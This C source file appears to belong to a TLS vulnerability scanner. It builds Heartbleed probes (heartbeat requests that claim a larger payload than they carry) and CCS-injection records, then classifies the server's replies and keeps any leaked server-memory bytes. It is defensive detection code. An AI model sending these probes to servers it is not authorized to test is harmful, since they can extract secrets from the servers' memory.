/* early.c - the Heartbleed and CCS injection records and the reading of
 * the server's answer to them. */
#include "tls/early.h"

#include <stdio.h>
#include <string.h>
#include "core/rd.h"
#include "core/wr.h"
#include "tls/wire.h"

enum {
	CT_CCS = 20,
	CT_ALERT = 21,
	CT_HANDSHAKE = 22,
	CT_HEARTBEAT = 24, /* RFC 6520 3 */
	HB_REQUEST = 1,
	HB_RESPONSE = 2,
};

#define REC_MAX_PLAIN 16384             /* RFC 5246 6.2.1 */
#define REC_MAX_FRAGMENT (16384 + 2048) /* 6.2.3: protection may add 2048 */

int early_hello(struct buf *out, const struct hello_opts *o)
{
	static const uint8_t mode[] = {HB_PEER_ALLOWED_TO_SEND};
	struct buf plain;
	buf_init(&plain, 1 << 17);
	int rc = hello_build(&plain, o);
	if (rc == 0)
		rc = early_add_extension(plain.data, plain.len, EXT_HEARTBEAT, mode, sizeof mode,
		                         out);
	buf_free(&plain);
	return rc;
}

int early_add_extension(const uint8_t *rec, size_t n, uint16_t type, const uint8_t *body,
                        size_t blen, struct buf *out)
{
	struct rd r, frag, hs, sid, suites, comp, exts;
	uint8_t ctype, htype;
	uint16_t rversion, cversion;
	const uint8_t *random;

	/* RFC 5246 6.2.1 TLSPlaintext, 7.4 Handshake, 7.4.1.2 ClientHello */
	rd_init(&r, rec, n);
	rd_u8(&r, &ctype);
	rd_u16(&r, &rversion);
	rd_vec(&r, 2, 1, REC_MAX_PLAIN, &frag);
	rd_u8(&frag, &htype);
	rd_vec(&frag, 3, 0, REC_MAX_PLAIN, &hs);
	rd_u16(&hs, &cversion);
	random = rd_ptr(&hs, 32);
	rd_vec(&hs, 1, 0, 32, &sid);
	rd_vec(&hs, 2, 2, 0xfffe, &suites);
	rd_vec(&hs, 1, 1, 0xff, &comp);
	rd_vec(&hs, 2, 0, 0xffff, &exts);
	if (!rd_done(&r) || !rd_done(&frag) || !rd_done(&hs) || ctype != CT_HANDSHAKE ||
	    htype != 1 || !random)
		return -1;

	struct buf tmp;
	struct wr w;
	buf_init(&tmp, 2 * REC_MAX_PLAIN);
	wr_init(&w, &tmp);
	wr_u8(&w, CT_HANDSHAKE);
	wr_u16(&w, rversion);
	size_t fm = wr_open_vec(&w, 2);
	wr_u8(&w, 1); /* client_hello */
	size_t hm = wr_open_vec(&w, 3);
	wr_u16(&w, cversion);
	wr_bytes(&w, random, 32);
	size_t m = wr_open_vec(&w, 1);
	wr_bytes(&w, sid.p, rd_left(&sid));
	wr_close_vec(&w, m, 1);
	m = wr_open_vec(&w, 2);
	wr_bytes(&w, suites.p, rd_left(&suites));
	wr_close_vec(&w, m, 2);
	m = wr_open_vec(&w, 1);
	wr_bytes(&w, comp.p, rd_left(&comp));
	wr_close_vec(&w, m, 1);
	size_t em = wr_open_vec(&w, 2);
	wr_bytes(&w, exts.p, rd_left(&exts));
	wr_u16(&w, type);
	m = wr_open_vec(&w, 2);
	wr_bytes(&w, body, blen);
	wr_close_vec(&w, m, 2);
	wr_close_vec(&w, em, 2);
	wr_close_vec(&w, hm, 3);
	wr_close_vec(&w, fm, 2);
	int rc = -1;
	if (!wr_failed(&w) && tmp.len - 5 <= REC_MAX_PLAIN)
		rc = buf_append(out, tmp.data, tmp.len);
	buf_free(&tmp);
	return rc;
}

int early_heartbeat(struct buf *out, uint16_t version, uint16_t claimed, const uint8_t *payload,
                    size_t n)
{
	struct wr w;
	size_t len = out->len;
	wr_init(&w, out);
	wr_u8(&w, CT_HEARTBEAT);
	wr_u16(&w, version);
	size_t m = wr_open_vec(&w, 2);
	/* RFC 6520 4 HeartbeatMessage: type, payload_length, payload, padding
	 * (here none: the lie is the point) */
	wr_u8(&w, HB_REQUEST);
	wr_u16(&w, claimed);
	wr_bytes(&w, payload, n);
	wr_close_vec(&w, m, 2);
	if (wr_failed(&w)) {
		out->len = len;
		return -1;
	}
	return 0;
}

int early_ccs(struct buf *out, uint16_t version)
{
	static const uint8_t rec[] = {CT_CCS, 0, 0, 0, 1, 1};
	uint8_t r[sizeof rec];
	memcpy(r, rec, sizeof r);
	r[1] = (uint8_t)(version >> 8);
	r[2] = (uint8_t)version;
	return buf_append(out, r, sizeof r);
}

void early_init(struct early_reader *r, size_t sent)
{
	memset(r, 0, sizeof(*r));
	r->sent = sent;
	r->alert = -1;
}

static int fail(struct early_reader *r, const char *why)
{
	r->bad = 1;
	snprintf(r->why, sizeof r->why, "%s", why);
	return -1;
}

/* Heartbeat bytes: the stream of one (possibly fragmented) message. Its
 * first three bytes are type and payload_length; what lies past our own
 * message's length is memory the server should not have sent. */
static void heartbeat(struct early_reader *r, const uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		size_t pos = r->hb_bytes + i;
		if (pos == 0)
			r->hb_type = p[i];
		else if (pos == 1)
			r->hb_claimed = (uint16_t)(p[i] << 8);
		else if (pos == 2)
			r->hb_claimed |= p[i];
		if (pos >= r->sent && pos >= 3 && r->nleak < EARLY_LEAK_KEEP)
			r->leak[r->nleak++] = p[i];
	}
	r->hb_bytes += n;
	r->hb_records++;
}

int early_feed(struct early_reader *r, struct buf *in)
{
	if (r->bad)
		return -1;
	for (;;) {
		struct rd rd;
		uint8_t type;
		uint16_t version, len;
		if (in->len < 5)
			return 0;
		rd_init(&rd, in->data, in->len);
		rd_u8(&rd, &type);
		rd_u16(&rd, &version);
		rd_u16(&rd, &len);
		if (type < CT_CCS || type > CT_HEARTBEAT)
			return fail(r, "not a TLS record (unknown content type)");
		if ((version >> 8) != 3)
			return fail(r, "not a TLS record (version major is not 3)");
		if (len > REC_MAX_FRAGMENT)
			return fail(r, "TLS record longer than 2^14+2048 bytes");
		if (rd_left(&rd) < len)
			return 0;
		rd_init(&rd, in->data + 5, len);
		switch (type) {
		case CT_ALERT: {
			uint8_t level, desc;
			rd_u8(&rd, &level);
			rd_u8(&rd, &desc);
			if (!rd_done(&rd))
				return fail(r, "alert record is not 2 bytes");
			if (r->alert < 0) {
				r->alert = desc;
				r->alert_level = level;
			}
			break;
		}
		case CT_HEARTBEAT:
			if (len == 0)
				return fail(r, "empty heartbeat record");
			heartbeat(r, rd_ptr(&rd, len), len);
			break;
		default:
			r->other++;
			break;
		}
		buf_consume(in, 5u + len);
	}
}

enum early_hb early_heartbleed(const struct early_reader *r, enum early_ev ev)
{
	size_t ours = r->sent >= 3 ? r->sent - 3 : 0; /* payload bytes we sent */
	if (r->bad)
		return EHB_BAD;
	/* A heartbeat that claims more payload than we sent and brings more
	 * bytes than our whole message: nothing but the server's memory can
	 * have filled them. An answer claiming no more than our payload is an
	 * echo, whatever its padding (RFC 6520 4: at least 16 random bytes). */
	if (r->hb_bytes >= 3 && r->hb_claimed > ours && r->hb_bytes > r->sent) {
		if (r->hb_bytes >= 3u + r->hb_claimed || ev != EARLY_DATA || r->alert >= 0)
			return EHB_LEAK;
		return EHB_WAIT;
	}
	if (r->alert >= 0)
		return r->hb_bytes ? EHB_ECHO : EHB_ALERT;
	if (ev == EARLY_DATA)
		return EHB_WAIT;
	if (r->hb_bytes)
		return EHB_ECHO;
	return ev == EARLY_EOF ? EHB_CLOSED : EHB_SILENT;
}

/* The rule, after testssl.sh's run_ccs_injection and nmap's
 * ssl-ccs-injection (both after Ramon de C Valle's ccsinjection.c) and
 * OpenSSL's advisory of 2014-06-05:
 *
 * A patched OpenSSL (and every other stack we know) refuses a
 * ChangeCipherSpec that arrives before the ClientKeyExchange with a fatal
 * unexpected_message alert, or closes: refused. An unpatched one takes it
 * silently and switches its read side to keys derived from an empty master
 * secret; so after a short quiet wait we send a second record (a second
 * CCS, as testssl.sh and nmap do), which it now tries to decrypt: the MAC
 * check fails and it answers bad_record_mac (20) or, older versions,
 * decryption_failed (21): vulnerable. Its write side is still clear text,
 * so the alert is readable.
 *
 * Everything else is unknown, never safe: silence after both records (a
 * stack that ignores CCS records), another alert after the second (testssl
 * counts unexpected_message and handshake_failure there as "probably not
 * vulnerable": the CCS refused late, so do we), a close after the second
 * (a reset can swallow the alert), a MAC alert before the second record
 * (nothing was encrypted yet: not the pattern of either). */
enum early_ccs early_ccs_step(const struct early_reader *r, int second, enum early_ev ev)
{
	if (r->bad)
		return ECCS_UNKNOWN;
	if (r->alert >= 0) {
		int mac =
		    r->alert == TLS_ALERT_BAD_RECORD_MAC || r->alert == TLS_ALERT_DECRYPTION_FAILED;
		if (!second)
			return mac ? ECCS_UNKNOWN : ECCS_REJECTED;
		if (mac)
			return ECCS_VULNERABLE;
		if (r->alert == TLS_ALERT_UNEXPECTED_MESSAGE ||
		    r->alert == TLS_ALERT_HANDSHAKE_FAILURE)
			return ECCS_REJECTED;
		return ECCS_UNKNOWN;
	}
	switch (ev) {
	case EARLY_DATA:
		return ECCS_WAIT;
	case EARLY_EOF:
		return second ? ECCS_UNKNOWN : ECCS_REJECTED;
	case EARLY_QUIET:
		return second ? ECCS_UNKNOWN : ECCS_SECOND;
	}
	return ECCS_UNKNOWN;
}
